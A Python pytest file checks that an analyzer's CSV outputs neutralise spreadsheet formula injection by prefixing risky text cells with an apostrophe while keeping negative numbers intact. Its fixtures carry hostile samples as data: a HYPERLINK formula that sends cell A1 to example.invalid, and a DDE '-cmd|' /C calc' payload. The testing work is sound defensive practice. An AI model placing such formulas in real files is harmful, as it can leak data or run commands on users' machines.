"""CSV written for people (`export`, `query`, `sql`, `timeline`, `extract --format csv`) cannot run a formula when it
is opened in a spreadsheet (OWASP "CSV injection"): a text cell that starts with = + - @, a tab or a carriage
return gets a leading ' ; a number, negative ones included, is written as it is (s20-probe)."""
from __future__ import annotations

import csv
import io
import json

import pytest
from click.testing import CliRunner

from analyzer.cli import main
from analyzer.io.spreadsheet import spreadsheet_cell

HOSTILE_TITLE = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")"


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
    ("-1.25", "-1.25"), ("+3", "+3"), ("-0.000000000001", "-0.000000000001"), ("-12", "-12"), ("1e5", "1e5"),
    ("央行", "央行"), ("", ""), (None, None), (-1.5, -1.5), (-3, -3),
])
def test_spreadsheet_cell(value, written):
    assert spreadsheet_cell(value) == written


@pytest.fixture
def hostile_store(tmp_path):
    record = {"id": "-2+3", "title": HOSTILE_TITLE, "source": "@source", "text": "1月末，M2余额同比下降0.5%。"}
    path = tmp_path / "docs.jsonl"
    path.write_text(json.dumps(record, ensure_ascii=False) + "\n", encoding="utf-8")
    db = str(tmp_path / "store.db")
    result = CliRunner().invoke(main, ["ingest", str(path), "--db", db])
    assert result.exit_code == 0, result.output
    return db


def _cells(output: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(output)))


def _stdout(args: list[str]) -> str:
    result = CliRunner().invoke(main, args)
    assert result.exit_code == 0, result.output
    return result.stdout


def test_export_neutralises_text_cells(hostile_store):
    rows = _cells(_stdout(["export", "documents", "--db", hostile_store]))
    header, row = rows[0], rows[1]
    assert row[header.index("title")] == "'" + HOSTILE_TITLE
    assert row[header.index("doc_id")] == "'-2+3" and row[header.index("source")] == "'@source"


def test_query_keeps_negative_numbers_as_numbers(hostile_store):
    rows = _cells(_stdout(["query", "--db", hostile_store, "--format", "csv"]))
    header = rows[0]
    values = {row[header.index("value")] for row in rows[1:]}
    assert "-0.5" in values  # 下降0.5% is stored as an exact -0.5
    assert all(row[header.index("doc_id")] == "'-2+3" for row in rows[1:])


def test_sql_neutralises_column_names_and_cells(hostile_store):
    rows = _cells(_stdout(["sql", "SELECT title AS \"=x\", -1.5 AS n FROM documents", "--db", hostile_store,
                           "--format", "csv"]))
    assert rows == [["'=x", "n"], ["'" + HOSTILE_TITLE, "-1.5"]]


def test_extract_csv_neutralises_text_cells(tmp_path):
    path = tmp_path / "a.jsonl"
    path.write_text(json.dumps({"id": "=cmd", "text": "M2余额同比下降0.5%。"}, ensure_ascii=False) + "\n",
                    encoding="utf-8")
    rows = _cells(_stdout(["extract", str(path), "--format", "csv"]))
    header = rows[0]
    assert rows[1:] and all(row[header.index("doc_id")] == "'=cmd" for row in rows[1:])
    assert "-0.5" in {row[header.index("value")] for row in rows[1:]}


def test_serve_csv_downloads_neutralise_text_cells(hostile_store):
    """Datasette's .csv links (a table, a canned query, arbitrary SQL) go through the same cell rule."""
    pytest.importorskip("datasette")
    import asyncio
    from analyzer.serve.app import build_datasette, open_served
    app = build_datasette(open_served(hostile_store))

    async def get(path):
        await app.invoke_startup()
        return await app.client.get(path)
    for path in ("/analyzer/documents.csv", "/analyzer/documents.csv?_dl=1",
                 "/analyzer/documents.csv?_stream=on&_size=max",
                 "/analyzer.csv?sql=" + "SELECT+title+AS+%22%3Dt%22%2C+-1.5+AS+n+FROM+documents"):
        response = asyncio.run(get(path))
        assert response.status_code == 200, path
        rows = _cells(response.text)
        if "sql=" in path:
            assert rows == [["'=t", "n"], ["'" + HOSTILE_TITLE, "-1.5"]]
        else:
            header, row = rows[0], rows[1]
            assert row[header.index("title")] == "'" + HOSTILE_TITLE, path
            assert row[header.index("doc_id")] == "'-2+3" and row[header.index("source")] == "'@source", path


def _served_csv(body: bytes, size: int, end_with_empty: bool) -> str:
    """``body`` sent through serve's CSV wrapper in chunks of ``size`` bytes, cut anywhere (inside a cell, a quoted
    line break, a UTF-8 character); the text the client receives."""
    import asyncio
    from analyzer.serve.plugin import _safe_csv_send
    sent = []

    async def send(message):
        sent.append(message)

    async def respond():
        wrapped = _safe_csv_send(send)
        await wrapped({"type": "http.response.start", "status": 200,
                       "headers": [(b"content-type", b"text/csv; charset=utf-8")]})
        chunks = [body[at:at + size] for at in range(0, len(body), size)]
        for index, chunk in enumerate(chunks):
            last = index == len(chunks) - 1 and not end_with_empty
            await wrapped({"type": "http.response.body", "body": chunk, "more_body": not last})
        if end_with_empty:
            await wrapped({"type": "http.response.body", "body": b"", "more_body": False})
    asyncio.run(respond())
    assert sent[-1].get("more_body", False) is False
    return b"".join(message.get("body", b"") for message in sent[1:]).decode("utf-8")


@pytest.mark.parametrize("size", [1, 2, 3, 5, 7, 11, 4096])
@pytest.mark.parametrize("end_with_empty", [True, False])
def test_serve_csv_cells_are_safe_however_the_body_is_cut(size, end_with_empty):
    """serve's wrapper rewrote each body chunk on its own, trusting datasette to send whole records: a chunk cut
    inside a record let a formula through (`x,"` then `=cmd"`), split a cell in two or broke a UTF-8 character."""
    rows = [["title", "=t", "n"], [HOSTILE_TITLE, "央行\n=2+2", "-1.5"], ["x", "=cmd()", "@SUM(A1)"],
            ["中文标题，含逗号", "", "-0.25"], ["-2+3", "line\r\nbreak \"quoted\"", "+3"]]
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    received = _served_csv(out.getvalue().encode("utf-8"), size, end_with_empty)
    assert _cells(received) == [[spreadsheet_cell(cell) for cell in row] for row in rows]
